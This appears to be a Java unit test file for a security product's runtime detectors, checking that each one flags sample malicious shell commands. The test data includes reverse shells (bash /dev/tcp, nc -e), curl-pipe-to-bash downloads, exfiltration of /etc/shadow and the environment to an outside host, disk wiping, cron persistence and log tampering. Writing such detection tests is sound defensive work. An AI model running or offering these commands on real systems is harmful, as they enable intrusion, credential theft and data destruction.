package io.hivesec.detectors;

import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.detectors.execution.ContainerEscapeCommandDetector;
import io.hivesec.detectors.execution.CredentialAccessCommandDetector;
import io.hivesec.detectors.execution.DefenceEvasionCommandDetector;
import io.hivesec.detectors.execution.DestructionCommandDetector;
import io.hivesec.detectors.execution.ExfiltrationDetector;
import io.hivesec.detectors.execution.MinerDetector;
import io.hivesec.detectors.execution.NetworkAttackDetector;
import io.hivesec.detectors.execution.PersistenceCommandDetector;
import io.hivesec.detectors.execution.PrivilegeEscalationCommandDetector;
import io.hivesec.detectors.execution.RemoteCodeDetector;
import io.hivesec.detectors.execution.TunnelDetector;
import io.hivesec.detectors.model.BehaviorModel;
import io.hivesec.detectors.model.Profile;
import io.hivesec.detectors.model.ProfileLearner;
import io.hivesec.detectors.privilege.SensitiveWriteDetector;
import io.hivesec.detectors.privilege.SetIdBitDetector;
import io.hivesec.detectors.shell.CommandLineShellDetector;
import io.hivesec.event.Event;
import io.hivesec.history.Histories;
import io.hivesec.history.HistoryLimits;
import io.hivesec.spi.Detector;
import io.hivesec.testkit.DetectorContract;
import io.hivesec.testkit.Scene;
import java.io.IOException;
import java.lang.reflect.Constructor;
import java.lang.reflect.Modifier;
import java.net.URISyntaxException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Objects;
import java.util.ServiceLoader;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

/**
 * The contract, for the detectors whose own tests are tables of command lines or of files; and that no detector is without
 * it.
 */
final class DetectorContractsTest {
    /** A shell that runs two command lines, each of which is found. */
    private static List<Event> shellRuns(String first, String second) {
        Scene scene = Scene.in("web");
        Scene.Actor server = scene.starts("/usr/sbin/nginx", "nginx");
        server.starts("/bin/sh", "sh", "-c", first).exits();
        server.starts("/bin/sh", "sh", "-c", second).exits();
        return scene.events();
    }

    @Nested
    class ContainerEscape implements DetectorContract {
        @Override
        public Detector detector() {
            return new ContainerEscapeCommandDetector();
        }

        @Override
        public List<Event> incident() {
            return shellRuns("nsenter --target 1 --mount --pid -- bash", "mount /dev/sda1 /mnt");
        }
    }

    @Nested
    class CredentialAccess implements DetectorContract {
        @Override
        public Detector detector() {
            return new CredentialAccessCommandDetector();
        }

        @Override
        public List<Event> incident() {
            return shellRuns("cat /etc/shadow", "cp /etc/shadow /tmp/s");
        }
    }

    @Nested
    class DefenceEvasion implements DetectorContract {
        @Override
        public Detector detector() {
            return new DefenceEvasionCommandDetector();
        }

        @Override
        public List<Event> incident() {
            return shellRuns("rm -rf /var/log/messages /var/log/secure", "systemctl stop auditd");
        }
    }

    @Nested
    class Miner implements DetectorContract {
        @Override
        public Detector detector() {
            return new MinerDetector();
        }

        @Override
        public List<Event> incident() {
            return shellRuns("./xmrig -o pool.example:4444 -u W -k", "./xmrig -o pool.example:3333 -u V -k");
        }
    }

    @Nested
    class Persistence implements DetectorContract {
        @Override
        public Detector detector() {
            return new PersistenceCommandDetector();
        }

        @Override
        public List<Event> incident() {
            return shellRuns("echo '* * * * * root /tmp/.x' > /etc/cron.d/x", "echo '/tmp/.x &' >> ~/.bashrc");
        }
    }

    @Nested
    class PrivilegeEscalation implements DetectorContract {
        @Override
        public Detector detector() {
            return new PrivilegeEscalationCommandDetector();
        }

        @Override
        public List<Event> incident() {
            return shellRuns("chmod u+s /tmp/sh", "setcap cap_setuid+ep /usr/bin/python3");
        }
    }

    @Nested
    class RemoteCode implements DetectorContract {
        @Override
        public Detector detector() {
            return new RemoteCodeDetector();
        }

        @Override
        public List<Event> incident() {
            return shellRuns("curl -s http://203.0.113.5/a.sh | bash", "echo aWQ7aWQ7aWQ= | base64 -d | sh");
        }
    }

    @Nested
    class Tunnel implements DetectorContract {
        @Override
        public Detector detector() {
            return new TunnelDetector();
        }

        @Override
        public List<Event> incident() {
            return shellRuns("ssh -fNR 2222:localhost:22 u@203.0.113.5", "ssh -fNR 3333:localhost:22 u@203.0.113.6");
        }
    }

    @Nested
    class Destruction implements DetectorContract {
        @Override
        public Detector detector() {
            return new DestructionCommandDetector();
        }

        @Override
        public List<Event> incident() {
            return shellRuns("dd if=/dev/zero of=/dev/sda", "find /srv -type f -exec shred -u {} \\;");
        }
    }

    @Nested
    class NetworkAttack implements DetectorContract {
        @Override
        public Detector detector() {
            return new NetworkAttackDetector();
        }

        @Override
        public List<Event> incident() {
            return shellRuns("zmap -p 2375 10.0.0.0/8", "redis-cli -h 10.0.0.5 slaveof 203.0.113.9 6379");
        }
    }

    @Nested
    class Exfiltration implements DetectorContract {
        @Override
        public Detector detector() {
            return new ExfiltrationDetector();
        }

        @Override
        public List<Event> incident() {
            return shellRuns("curl -F file=@/etc/shadow http://203.0.113.9/", "env | nc 203.0.113.9 4444");
        }
    }

    @Nested
    class CommandLineShell implements DetectorContract {
        @Override
        public Detector detector() {
            return new CommandLineShellDetector();
        }

        @Override
        public List<Event> incident() {
            return shellRuns("bash -i >& /dev/tcp/203.0.113.9/9001 0>&1", "nc -e /bin/sh 203.0.113.9 443");
        }
    }

    @Nested
    class SetIdBit implements DetectorContract {
        @Override
        public Detector detector() {
            return new SetIdBitDetector();
        }

        @Override
        public List<Event> incident() {
            Scene scene = Scene.in("web");
            scene.starts("/bin/bash", "bash")
                    .starts("/bin/chmod", "chmod", "4755", "/tmp/sh")
                    .changesMode("/tmp/sh", 04755);
            return scene.events();
        }
    }

    @Nested
    class SensitiveWrite implements DetectorContract {
        @Override
        public Detector detector() {
            return new SensitiveWriteDetector();
        }

        @Override
        public List<Event> incident() {
            Scene scene = Scene.in("web");
            scene.starts("/usr/sbin/nginx", "nginx")
                    .starts("/bin/bash", "bash")
                    .writes("/etc/passwd")
                    .writes("/etc/cron.d/x");
            return scene.events();
        }
    }

    @Nested
    class Drift implements DetectorContract {
        @Override
        public Detector detector() {
            Scene normal = Scene.in("web");
            normal.starts("/usr/sbin/nginx", "nginx").writes("/var/log/nginx/access.log");
            ProfileLearner learner = new ProfileLearner(normal.container().image(), "");
            Histories histories = new Histories(HistoryLimits.DEFAULT);
            normal.events()
                    .forEach(event -> histories.record(event, history -> {
                        learner.observe(event, history);
                        return "";
                    }));
            return BehaviorModel.detector(List.of(learner.profile().in(Profile.Mode.MONITORING)));
        }

        @Override
        public List<Event> incident() {
            return shellRuns("id", "cat /etc/shadow");
        }
    }

    @Test
    void detector_everyRegisteredOne_hasATestThatHoldsTheContract() throws Exception {
        Set<Class<?>> registered = ServiceLoader.load(Detector.class).stream()
                .map(ServiceLoader.Provider::type)
                .collect(Collectors.toSet());
        assertThat(registered).isNotEmpty();
        assertThat(tested()).containsAll(registered);
    }

    /** The detectors that the tests of this module hold to the contract. */
    private static Set<Class<?>> tested() throws IOException, URISyntaxException {
        Path classes = Path.of(DetectorContractsTest.class
                .getProtectionDomain()
                .getCodeSource()
                .getLocation()
                .toURI());
        try (Stream<Path> files = Files.walk(classes)) {
            return files.map(file -> classes.relativize(file).toString())
                    .filter(name -> name.contains("Test") && name.endsWith(".class"))
                    .map(name -> load(
                            name.substring(0, name.length() - ".class".length()).replace('/', '.')))
                    .filter(DetectorContract.class::isAssignableFrom)
                    .map(test -> ((DetectorContract) instance(test)).detector().getClass())
                    .collect(Collectors.toSet());
        }
    }

    private static Class<?> load(String name) {
        try {
            return Class.forName(name, false, DetectorContractsTest.class.getClassLoader());
        } catch (ClassNotFoundException e) {
            throw new AssertionError(name, e);
        }
    }

    /** A test class as the engine makes it: an inner one inside an instance of the outer. */
    private static Object instance(Class<?> test) {
        try {
            boolean isInner = test.isMemberClass() && !Modifier.isStatic(test.getModifiers());
            Constructor<?> constructor = test.getDeclaredConstructors()[0];
            constructor.setAccessible(true);
            return isInner
                    ? constructor.newInstance(instance(Objects.requireNonNull(test.getEnclosingClass())))
                    : constructor.newInstance();
        } catch (ReflectiveOperationException e) {
            throw new AssertionError(test.getName(), e);
        }
    }
}
